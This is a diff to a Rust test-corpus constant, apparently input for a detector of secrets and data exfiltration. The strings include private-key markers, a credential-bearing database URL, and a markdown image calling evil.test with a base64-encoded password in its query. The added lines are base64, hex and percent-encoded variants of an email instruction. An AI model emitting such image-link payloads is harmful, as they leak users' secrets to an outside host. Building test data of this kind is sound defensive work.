@@ -35,7 +35,8 @@ const TEXTS: &str = concat!(
     "export ¦-----BEGIN ¦PRIVATE KEY-----¦-----END ¦postgres://user:pa55@db.example.com/x¦",
     "https://example.com/a¦https:¦http¦![a](¦[a](¦]: ¦<img src=¦https://evil.test/?q=¦",
     "![b](https://evil.test/?q=dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg)¦",
-    "dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg¦9f86d081884c7d659a2feaa0c55ad015a3bf4f1b¦",
+    "dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg¦bWFpbCBqYW5lQGV4YW1wbGUuY29tIG5vdw==¦",
+    "6d61696c206a616e65406578616d706c652e636f6d¦jane%40example.com¦%41¦9f86d081884c7d659a2feaa0c55ad015a3bf4f1b¦",
     "the quick brown fox¦Acme¦acme corp¦Corp¦MÜLLER¦ag¦EMP-123456¦proj¦abcd¦cd¦é¦日本¦株式会社¦",
     "\u{200b}¦😀¦x¦Zq8¦aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0zA¦",
 );
